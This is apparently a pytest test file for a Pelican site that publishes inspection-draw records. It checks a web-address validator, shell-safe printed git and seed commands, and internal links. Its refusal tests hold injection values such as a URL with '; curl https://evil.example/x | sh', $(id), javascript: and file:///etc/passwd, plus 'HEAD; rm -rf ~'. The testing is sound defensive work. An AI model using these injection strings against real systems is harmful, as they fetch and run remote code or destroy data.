"""Links and commands that reach a citizen (issue 10, item 2).

Every web address from the data or the site's settings goes through ssjpub.weburl; every command
the site prints is built from argument lists and quoted word by word (ssjpub.site.commands), so
that `shlex.split` of what a reader copies gives back exactly the intended arguments. Real Pelican
builds check what reaches the pages.
"""

from __future__ import annotations

import ast
import contextlib
import html
import html.parser
import io
import json
import os
import re
import shlex
import subprocess
import sys
import urllib.parse
from pathlib import Path

import pytest
from hypothesis import assume, given, strategies as st

from conftest import make_repo, problems_of
from ssjpub.draw.encoding import sha256_fields
from ssjpub.site import commands as C
from ssjpub.site import trace
from ssjpub.weburl import web_url_problem
from test_site import ROOT, Html, copy_demo

# --- the one validator -------------------------------------------------------------------------

ACCEPTED = [
    "https://github.com/ssjpub/ssjpub",
    "https://gitlab.example.gov.cn/group/sub/repo.git",
    "http://git.example.cn:8080/~ju/data",
    "HTTPS://GitHub.com/Org/Repo",
    "https://例子.中国/org/repo",
    "https://gitee.com/org/%E6%95%B0%E6%8D%AE",
    "https://github.com",
]

REFUSED = [
    ("javascript:alert(1)", "不接受“javascript:”"),
    ("data:text/html;base64,PHNjcmlwdD4=", "不接受“data:”"),
    ("file:///etc/passwd", "不接受“file:”"),
    ("vbscript:msgbox(1)", "不接受“vbscript:”"),
    ("github.com/org/repo", "应以 https:// 开头"),
    ("git@github.com:org/repo.git", "应以 https:// 开头"),
    ("https:github.com/org", "之后应为“//主机名”"),
    ("https:///org/repo", "缺少主机名"),
    ("https://user:token@github.com/org/repo", "用户名或密码"),
    ("https://github.com@evil.example/org/repo", "用户名或密码"),
    ("https://github.com/org/repo; curl https://evil.example/x | sh", "不可见字符"),
    ("https://github.com/org/repo;curl${IFS}evil.example|sh", "不能有字符“;”"),
    ("https://github.com/org/$(id)", "不能有字符“$”"),
    ("https://github.com/org/`id`", "不能有字符“`”"),
    ("https://github.com/org/repo'", "不能有字符“'”"),
    ('https://github.com/org/repo"', "不能有字符“\"”"),
    ("https://github.com/a&&b", "不能有字符“&”"),
    ("https://github.com/a>b", "不能有字符“>”"),
    ("https://github.com/a\\b", "不能有字符“\\”"),
    ("https://github.com/org/repo\n", "不可见字符"),
    ("https://github.com/org/re\u202epo", "不可见字符"),
    ("https://github.com/org/repo?ref=main", "“?”或“#”"),
    ("https://github.com/org/repo#readme", "“?”或“#”"),
    ("https://github.com/org/%zz", "两位十六进制"),
    ("https://github.com/org/数据", "%XX"),
    ("https://localhost/org/repo", "完整的域名"),
    ("https://git_hub.com/org", "主机名“git_hub.com”无效"),
    ("https://-github.com/org", "无效"),
    ("https://ｇｉｔｈｕｂ.com/org", "无效"),
    ("https://[::1]/org", "IP 地址"),
    ("https://github.com:99999/org", "端口"),
    ("", "应为网址文字"),
]


@pytest.mark.parametrize("url", ACCEPTED)
def test_plain_web_addresses_are_accepted(url):
    assert web_url_problem(url) is None


@pytest.mark.parametrize("url,why", REFUSED)
def test_everything_else_is_refused_with_the_reason(url, why):
    problem = web_url_problem(url)
    assert problem is not None and why in problem, problem


LABEL = st.from_regex(r"[a-z0-9]{1,6}(-[a-z0-9]{1,6}){0,2}", fullmatch=True)
HOST = st.lists(LABEL, min_size=2, max_size=4).map(".".join)
SEGMENT = st.text(alphabet="abcXYZ019-._~:@+,=", min_size=1, max_size=10) | st.from_regex(r"%[0-9A-Fa-f]{2}", fullmatch=True)
PATH = st.lists(SEGMENT, max_size=4).map(lambda parts: "".join("/" + p for p in parts))
URLS = st.builds(
    lambda scheme, host, port, path: f"{scheme}://{host}{f':{port}' if port else ''}{path}",
    st.sampled_from(["https", "http"]), HOST, st.none() | st.integers(1, 65535), PATH,
)
# Not allowed anywhere in an address: what a shell, an HTML attribute or a reader could misread.
HOSTILE = list(" \t\n\r\x00\x1b\x7f\u00a0\u200b\u202e;|&$<>'\"`\\(){}[]*!^?#")


@given(URLS)
def test_generated_addresses_are_accepted(url):
    assert web_url_problem(url) is None, url


@given(URLS, st.sampled_from(HOSTILE), st.data())
def test_one_hostile_character_anywhere_is_refused(url, ch, data):
    at = data.draw(st.integers(0, len(url)))
    assert web_url_problem(url[:at] + ch + url[at:]) is not None


def test_the_model_refuses_an_invalid_repository_where_it_is_written(tmp_path):
    root = make_repo(tmp_path / "repo")
    agency = root / "plans/shili/agency.yaml"
    line = len(agency.read_text(encoding="utf-8").splitlines()) + 1
    with agency.open("a", encoding="utf-8") as fh:
        fh.write("repository: https://user:secret-token@github.com/shili/data\n")
    [p] = problems_of(root)
    assert (p.file, p.line, p.column, p.code) == ("plans/shili/agency.yaml", line, 13, "invalid-url")
    assert "secret-token" not in p.message  # the credential is not echoed into CI logs


# --- commands: what is printed splits back into exactly the intended arguments ----------------


def argvs(text: str) -> list[list[str]]:
    """A printed command line as a POSIX shell reads it: argument lists between `&&`."""
    out: list[list[str]] = [[]]
    for word in shlex.split(text):
        if word == "&&":
            out.append([])
        else:
            out[-1].append(word)
    return out


@given(URLS, st.from_regex(r"[0-9a-f]{40}", fullmatch=True))
def test_clone_and_checkout_commands_split_into_the_intended_arguments(url, sha):
    clone, enter, checkout = C.fetch_commands(url, sha)
    folder = C.clone_folder(url)
    assert argvs(clone.text) == [["git", "clone", url, folder]]
    assert argvs(enter.text) == [["cd", folder]]
    assert argvs(checkout.text) == [["git", "checkout", sha]]
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", folder)  # never an option, never a path


def test_no_checkout_is_printed_without_a_commit_and_no_clone_without_an_address():
    assert C.fetch_commands(None, trace.UNKNOWN) == []
    assert C.fetch_commands(None, "HEAD; rm -rf ~") == []


@given(st.lists(st.text(max_size=20), min_size=1, max_size=8))
def test_the_seed_command_is_one_word_whose_program_holds_exactly_the_inputs(values):
    argv = C.seed_argv(values)
    text = shlex.join(argv)
    assert argvs(text) == [list(argv)]
    program = argv[2]
    assert "'" not in program  # one pair of single quotes holds it, whatever the values are
    [literal] = [n for n in ast.walk(ast.parse(program)) if isinstance(n, ast.List)]
    assert ast.literal_eval(literal) == values
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        exec(compile(program, "<seed>", "exec"), {})
    assert out.getvalue().strip() == sha256_fields(*values).hex()


def test_a_multi_step_command_splits_at_its_own_and_and_only():
    cmd = C.command("安装", ("python3", "-m", "venv", "a && b"), ("pip", "install", "-e", "."))
    assert cmd.text == "python3 -m venv 'a && b' && pip install -e ."
    assert argvs(cmd.text) == [["python3", "-m", "venv", "a && b"], ["pip", "install", "-e", "."]]


# --- real Pelican builds ------------------------------------------------------------------------


def pelican(root: Path, out: Path, *settings: str, content: Path | None = None) -> subprocess.CompletedProcess:
    """A real build of the data at `root` (no search index, no downloads: not what is tested)."""
    cmd = [sys.executable, "-m", "pelican", str(content or root / "content"), "-s", str(ROOT / "pelicanconf.py"),
           "-o", str(out), "--fatal", "errors", "-e", f"SSJPUB_ROOT={json.dumps(str(root))}",
           "SSJPUB_PAGEFIND=false", "SSJPUB_DOWNLOADS=false", *settings]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, timeout=600,
                          env={**os.environ, "PYTHONHASHSEED": "0", "COLUMNS": "400", "NO_COLOR": "1"})


def printed_commands(page: Path) -> list[str]:
    """Every line of every <pre><code> block: what a reader copies."""
    doc = Html(page.read_text(encoding="utf-8"))
    blocks = [d for d, st_ in doc.texts if st_ and st_[-1][0] == "code" and any(t == "pre" for t, _ in st_)]
    return [line for block in blocks for line in html.unescape(block).split("\n")]


def _set_repository(root: Path, code: str, url: str) -> None:
    path = root / f"plans/{code}/agency.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(re.sub(r"(?m)^repository: .*$", f"repository: {url}", text), encoding="utf-8")


def test_a_hostile_site_repository_setting_stops_the_build(tmp_path):
    root = copy_demo(tmp_path / "repo")
    out = tmp_path / "output"
    out.mkdir()
    (out / "previous.html").write_text("上一次的网站", encoding="utf-8")
    done = pelican(root, out, 'SSJPUB_REPOSITORY="https://github.com/o/r;curl${IFS}evil.example|sh"')
    log = done.stdout + done.stderr
    assert done.returncode == 1, log
    assert re.search(r"pelicanconf\.py:\d+:1: invalid-url 设置 SSJPUB_REPOSITORY 的网址无效：.*“;”", log), log
    assert "Traceback" not in log
    assert sorted(p.name for p in out.iterdir()) == ["previous.html"]


def test_a_hostile_repository_in_the_data_stops_the_build(tmp_path):
    root = copy_demo(tmp_path / "repo")
    _set_repository(root, "yanshi", "'https://github.com/o/r; curl https://evil.example/x | sh'")
    done = pelican(root, tmp_path / "output")
    log = done.stdout + done.stderr
    assert done.returncode == 1 and "plans/yanshi/agency.yaml:" in log and "invalid-url" in log, log
    assert "Traceback" not in log and not (tmp_path / "output/index.html").exists()


def test_printed_commands_give_exactly_the_intended_arguments(tmp_path):
    """Valid addresses with every character the rule allows reach the pages quoted: a shell reads
    back the address as one word, and the seed command prints the record's seed."""
    root = copy_demo(tmp_path / "repo")
    agency_url = "https://例子.中国:8443/~ju/data+x,y=z@v1:main%E6%95%B0"
    site_url = "https://gitlab.example.gov.cn/group/sub/ssj-data.git"
    _set_repository(root, "baofeng", agency_url)
    done = pelican(root, tmp_path / "output", f"SSJPUB_REPOSITORY={json.dumps(site_url)}")
    assert done.returncode == 0, done.stdout + done.stderr
    out = tmp_path / "output"

    verify = [shlex.split(line) for line in printed_commands(out / "verify/index.html")]
    assert ["git", "clone", site_url, "ssj-data"] in verify and ["cd", "ssj-data"] in verify

    task = [shlex.split(line) for line in printed_commands(out / "baofeng/2024/2024-01/index.html")]
    record = json.loads((root / "plans/baofeng/2024/draws/2024-01.json").read_text(encoding="utf-8"))
    clone = task.index(["git", "clone", agency_url, "ssjpub"])
    assert task[clone + 2] == ["cd", "ssjpub"]  # the PowerShell form is the same words, between them
    assert task[clone + 1] == ["git", "clone", agency_url, "ssjpub"]
    assert ["sha256sum", record["population"]["file"].rsplit("/", 1)[1]] == task[0]  # the served copy: no clone
    assert ["sha256sum", record["population"]["file"]] in task
    assert ["python3", "docs/verify_draw.py", "plans/baofeng/2024/draws/2024-01.json"] in task
    [seed] = [argv for argv in task if argv[:2] == ["python3", "-c"]]
    assert len(seed) == 3
    ran = subprocess.run([sys.executable, "-c", seed[2]], capture_output=True, text=True, check=True)
    assert ran.stdout.strip() == record["seed"]

    agency = Html((out / "baofeng/index.html").read_text(encoding="utf-8"))
    assert agency_url in [a.get("href") for a in agency.all("a")]


# --- every internal link lands (issue 15, item 1) -----------------------------------------------

_SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*:")
_BASE = "http://site.invalid/"  # a stand-in origin to resolve relative references against


class _Refs(html.parser.HTMLParser):
    """A page's ids (and <a name>s), and every href, src and action it holds."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.ids: set[str] = set()
        self.refs: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name == "id" or (tag == "a" and name == "name"):
                self.ids.add(value or "")
            elif name in ("href", "src", "action") and value is not None:
                self.refs.append(value)

    handle_startendtag = handle_starttag


def broken_links(site: Path, siteurl: str = "") -> list[tuple[str, str, str]]:
    """(page, reference, why) for every internal reference of every HTML file under `site` whose
    file, or whose #fragment in that file, does not exist. Internal: relative, or under `siteurl`."""
    parsed: dict[Path, _Refs] = {}

    def refs(path: Path) -> _Refs:
        if path not in parsed:
            parsed[path] = _Refs(path.read_text(encoding="utf-8"))
        return parsed[path]

    bad = []
    for page in sorted(site.rglob("*.html")):
        rel = page.relative_to(site).as_posix()
        for ref in refs(page).refs:
            if siteurl and (ref == siteurl or ref.startswith((siteurl + "/", siteurl + "#"))):
                url = urllib.parse.urljoin(_BASE, "." + ref[len(siteurl):] if ref != siteurl else "./")
            elif _SCHEME.match(ref) or ref.startswith("//"):
                continue  # another site, mailto:, data:
            else:
                url = urllib.parse.urljoin(_BASE + rel, ref)
            if not url.startswith(_BASE):
                bad.append((rel, ref, "指向网站之外"))
                continue
            parts = urllib.parse.urlsplit(url)
            path = urllib.parse.unquote(parts.path)[1:]
            target = site / (path + "index.html" if path == "" or path.endswith("/") else path)
            if not target.is_file():
                bad.append((rel, ref, "文件不存在"))
            elif parts.fragment and (target.suffix != ".html"
                                     or urllib.parse.unquote(parts.fragment) not in refs(target).ids):
                bad.append((rel, ref, f"{target.relative_to(site).as_posix()} 中没有 #{parts.fragment}"))
    return bad


def test_the_link_checker_finds_every_kind_of_broken_reference(tmp_path):
    site = tmp_path / "site"
    (site / "a/b").mkdir(parents=True)
    (site / "x.css").write_text("", encoding="utf-8")
    (site / "index.html").write_text('<p id="top">首页</p>', encoding="utf-8")
    (site / "a/b/index.html").write_text(
        '<h2 id="r-1">结果</h2><a href="#r-1">本页</a><a href="../../">首页</a><a href="../../#top">顶部</a>'
        '<link href="../../x.css"><a href="https://example.org/#nowhere">外站</a><a href="mailto:a@b.cn">信</a>'
        '<a href="#r-2">缺锚点</a><a href="../../#r-1">首页无此锚点</a><img src="../../y.png">'
        '<a href="../c/">缺页</a><a href="../../x.css#top">非网页</a><a href="../../../up.html">网站之外</a>'
        '<a href="https://site.example/s/a/b/#r-1">本站绝对</a><a href="https://site.example/s/#r-1">绝对缺锚点</a>',
        encoding="utf-8")
    found = {ref for _, ref, _ in broken_links(site, "https://site.example/s")}
    assert found == {"#r-2", "../../#r-1", "../../y.png", "../c/", "../../x.css#top", "../../../up.html",
                     "https://site.example/s/#r-1"}


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> dict[str, Path]:
    """The demo as `make html` builds it (relative URLs, downloads and search index) and as it is
    published (an absolute SITEURL)."""
    out = {}
    for name, settings in (("", ()), (PUBLISHED_URL, (f"SITEURL={json.dumps(PUBLISHED_URL)}", "RELATIVE_URLS=false"))):
        folder = tmp_path_factory.mktemp("built") / "output"
        done = subprocess.run(
            [sys.executable, "-m", "pelican", str(ROOT / "content"), "-s", str(ROOT / "pelicanconf.py"),
             "-o", str(folder), "--fatal", "errors", *(("-e", *settings) if settings else ())],
            capture_output=True, text=True, cwd=ROOT, timeout=600,
            env={**os.environ, "PYTHONHASHSEED": "0", "COLUMNS": "400", "NO_COLOR": "1"})
        assert done.returncode == 0, done.stdout + done.stderr
        out[name] = folder
    return out


PUBLISHED_URL = "https://ssj.example.gov.cn/gongshi"


@pytest.mark.parametrize("siteurl", ["", PUBLISHED_URL], ids=["relative", "absolute"])
def test_every_internal_link_of_the_built_site_lands(built, siteurl):
    site = built[siteurl]
    assert broken_links(site, siteurl) == []
    # Not vacuous: the task pages' same-page anchors are there, unprefixed, and were checked.
    task = _Refs((site / "baofeng/2024/2024-01/index.html").read_text(encoding="utf-8"))
    same_page = [r for r in task.refs if r.startswith("#")]
    assert {r[:3] for r in same_page} >= {"#dr", "#ma", "#pl"}  # the results section to the drawn table, …
    assert not [r for r in task.refs if re.search(r"/#[rt]-", r)]
    # The inputs served by the site, the index of them and the order evidence were checked too.
    assert "#order-h" in same_page and [r for r in task.refs if r.endswith("files/index.json")]
    assert len([r for r in task.refs if "files/plans/" in r]) >= 6


# --- relative links: the shortest way from a page (issue 16 item 7) -------------------------------

_SEGMENT = st.sampled_from(["x419001", "baofeng", "2024", "2024-03", "enterprises", "drawn", "2", "files"])


@given(here=st.lists(_SEGMENT, max_size=4), to=st.lists(_SEGMENT, max_size=4),
       leaf=st.sampled_from(["", "drawn.csv"]), fragment=st.sampled_from(["", "#t-1", "#records-h"]))
def test_a_relative_link_leads_where_the_site_relative_url_does(here, to, leaf, fragment):
    """urls.relative (what table cells and the theme's href write with relative URLs) resolves,
    from the page at `here`, to the same file and anchor as SITEURL/url, and is never longer."""
    from ssjpub.site import table_html, urls

    page = "".join(f"{s}/" for s in here)
    url = "".join(f"{s}/" for s in to) + leaf + fragment
    assume(not url.startswith("#"))  # that is a same-page anchor, not the home page's
    siteurl = "/".join([".."] * len(here)) or "."
    link = table_html.href(url, siteurl, page)
    full = f"{siteurl}/{url}"
    resolved = urllib.parse.urljoin(f"http://h/{page}", link)
    assert resolved == urllib.parse.urljoin(f"http://h/{page}", full)
    assert len(link) <= len(full) and not link.startswith("/")
    # An absolute SITEURL keeps absolute links; a same-page anchor passes through.
    assert table_html.href(url, "https://s.example/x", page) == f"https://s.example/x/{url}"
    assert table_html.href("#t-1", siteurl, page) == "#t-1"
